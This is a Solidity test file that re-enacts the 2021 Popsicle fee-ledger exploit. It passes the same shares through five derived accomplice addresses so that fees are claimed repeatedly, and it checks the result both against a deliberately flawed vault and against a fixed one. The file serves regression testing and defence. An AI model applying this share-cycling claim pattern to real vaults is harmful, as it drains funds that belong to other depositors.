// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {NaiveFeeLedgerVault} from "../naive/NaiveUsers.sol";
import {NaiveLpVault} from "../naive/NaiveLpVault.sol";
import {Incident} from "./support/Incident.sol";
import {OnNaive} from "./support/OnNaive.sol";
import {OnOurs} from "./support/OnOurs.sol";

/// Incident 11: Popsicle, August 2021. A ledger of fees per user that transfers of shares do not touch.
abstract contract FeeLedgerAttack is Incident {
    function _arrange() internal override {
        _arrangeMarket();
        _depositAndInvest();
        _deposit(address(attacker), TVL / 10);
        // The vault earns.
        swapExactIn(true, 10 * TVL);
        swapToSqrtPrice(fairX96);
        _bookFees();
        skipTime(3600);
    }

    /// Whatever a target does to tell its holders of income.
    function _bookFees() internal virtual;

    /// The same shares claim from five accounts, then leave.
    function _claimWithTheSameShares() internal {
        address holder = address(attacker);
        for (uint256 i; i < 5; i++) {
            address next = address(uint160(uint256(keccak256(abi.encode("accomplice", i)))));
            uint256 shares = target.balanceOf(holder);
            vm.prank(holder);
            require(target.transfer(next, shares));
            _callAs(next, abi.encodeCall(NaiveFeeLedgerVault.claimFees, ()));
            uint256 won = _asset().balanceOf(next);
            vm.prank(next);
            require(_asset().transfer(address(attacker), won));
            holder = next;
        }
        _exitInKind(holder);
        vm.startPrank(holder);
        require(token0.transfer(address(attacker), token0.balanceOf(holder)));
        require(token1.transfer(address(attacker), token1.balanceOf(holder)));
        vm.stopPrank();
    }
}

contract FeeLedgerNaiveTest is FeeLedgerAttack, OnNaive {
    function _newNaive() internal override returns (NaiveLpVault) {
        return new NaiveFeeLedgerVault(pool, _assetIsToken1());
    }

    function _bookFees() internal override {
        _asset().mint(address(this), TVL / 10);
        _asset().approve(address(target), TVL / 10);
        NaiveFeeLedgerVault(address(target)).bookFees(TVL / 10);
    }

    function test_naive_feesAreClaimedFiveTimes() external {
        uint256 fair = uint256(TVL / 10) / 11;
        _claimWithTheSameShares();
        assertGt(_gain(), int256(4 * fair));
    }
}

contract FeeLedgerTest is FeeLedgerAttack, OnOurs {
    function _bookFees() internal override {
        target.accrueFees();
    }

    function test_sumOfClaims_leqNav() external {
        uint256 nav = target.totalAssets();
        uint256 due = target.convertToAssets(target.balanceOf(address(attacker)));
        uint256 others = target.convertToAssets(target.balanceOf(victim));
        assertLe(due + others, nav);
        _claimWithTheSameShares();
        // A tick is what the price that claims are told at is rounded to.
        assertLe(_gain() + int256(TVL / 10), int256(due + due / 10_000), "once");
        assertGe(target.convertToAssets(target.balanceOf(victim)), others - others / 1e6);
    }
}
